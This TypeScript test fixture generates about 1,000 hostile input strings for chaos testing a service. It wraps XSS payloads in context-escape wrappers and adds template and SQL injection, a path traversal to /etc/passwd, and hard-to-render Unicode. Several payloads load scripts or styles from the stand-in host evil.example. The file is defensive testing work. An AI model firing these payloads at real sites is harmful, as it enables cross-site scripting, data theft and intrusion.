/**
 * 1,000 different texts that attempt injection (HTML, scripts, URLs, templates, SQL) or are hard to display. The service
 * accepts each of them. `npm run chaos` uses all of them.
 */

const HIT = 'window.__hit=1';

/** A browser runs these if they are interpreted as markup, a URL, a style or a template. */
const PAYLOADS = [
  `<script>${HIT}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=//evil.example/pixel.png>`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror=${HIT}></style>`,
  `<body onload=${HIT}>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__hit=1"></iframe>`,
  `<input autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video><source onerror=${HIT}></video>`,
  `<a href="javascript:${HIT}">Soup</a>`,
  `<form action="javascript:${HIT}"><button>Soup</button></form>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'; *{display:none}</style>`,
  `<template><script>${HIT}</script></template>`,
  `<div style="background:url(//evil.example/x)">`,
  `javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `{name, plural, one {#} other {<0>#</0>}}`,
  `{email} {name} {count}`,
  `<0>Soup</0>`,
  `'{'`,
  `__proto__`,
  `constructor`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
];

/** Escape from the contexts into which a text may be inserted. */
const WRAPPINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--></title></textarea></style></script>${text}<!--`,
  (text) => `\u202e${text}\u202c\u2066x`,
  (text) => `</textarea>${text}`,
  (text) => `</title>${text}`,
  (text) => `</noscript>${text}<noscript>`,
  (text) => `<noscript><p title="</noscript>${text}">`,
  (text) => `<!--${text}-->`,
  (text) => `<!--><b>${text}`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `]]>${text}`,
  (text) => `*/${text}/*`,
  (text) => `');${text}//`,
  (text) => `\\";${text}//`,
  (text) => `\`\${${text}}\``,
  (text) => `{{${text}}}`,
  (text) => `x" autofocus onfocus="${HIT}" y="${text}`,
  (text) => `<a href='${text}'>Soup</a>`,
  (text) => `<svg><desc>${text}</desc></svg>`,
  (text) => `<math><annotation-xml encoding="text/html">${text}`,
  (text) => `<select><option>${text}`,
  (text) => `<table><td>${text}`,
  (text) => `Soup\n\t${text}\n\tSoup`,
];

/** Not executable, but hard to parse, store or display. */
const ODDITIES = [
  'null',
  'undefined',
  'NaN',
  '-1',
  'true',
  '[object Object]',
  "Robert'); DROP TABLE plans;--",
  '\u202eevas\u202c',
  '\u2067\u2066\u2069\u2068x',
  'a\u200bb\u200cc\u200dd\ufeffe',
  'Z\u0351\u036b\u0343\u036aa\u0302\u036b\u0343l\u0322\u0327g\u0328\u0321o\u035c',
  'e\u0301'.repeat(50),
  '👩‍👩‍👧‍👦🍕🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪👍🏿',
  '🍲'.repeat(500),
  'W'.repeat(500),
  `${'long '.repeat(99)}words`,
  'tab\there',
  'line\nfeed',
  'next\u0085line, \u2028line\u2029paragraph',
  '\u0080\u009f\u009b31mcontrol',
  '\u00a0no\u00a0break\u00a0',
  '\ufff9\ufffa\ufffb\ufffd\uffff',
  '\u{10ffff}\u{e0001}\u{1d173}',
  'שלום עולם עם English באמצע',
  'مرحبا ١٢٣ and back',
  '日本語のごはん、味噌汁、焼き魚',
  'ﷺﷺﷺﷺ',
  '../../../etc/passwd',
  '/\\/\\evil.example',
  'http://evil.example/ evil@evil.example +1 555 0100',
  '<',
  '>',
  '&',
  '&amp;',
  '"',
  "'",
  '`',
  '<!--',
  ']]>',
  '<![CDATA[x]]>',
];

export const HOSTILE_TEXTS = [
  ...PAYLOADS.flatMap((text) => WRAPPINGS.map((wrap) => wrap(text))),
  ...ODDITIES,
].map((text) => text.trim());

/** Every 23rd text. The step is coprime to the number of wrappings, so every wrapping occurs. */
export const SOME_HOSTILE_TEXTS = HOSTILE_TEXTS.filter((_, at) => at % 23 === 0);

/** The beginning of a text, with at most this many characters. */
export function truncate(text: string, maxLength: number): string {
  return Array.from(text).slice(0, maxLength).join('').trim();
}

/** Joins consecutive texts as long as they fit into the maximum length. */
export function joinTexts(texts: string[], maxLength: number): string[] {
  const joined: string[] = [];
  for (const text of texts.map((one) => truncate(one, maxLength))) {
    const candidate = `${joined.at(-1) ?? ''} ${text}`.trim();
    if (joined.length > 0 && Array.from(candidate).length <= maxLength) joined[joined.length - 1] = candidate;
    else joined.push(text);
  }
  return joined;
}
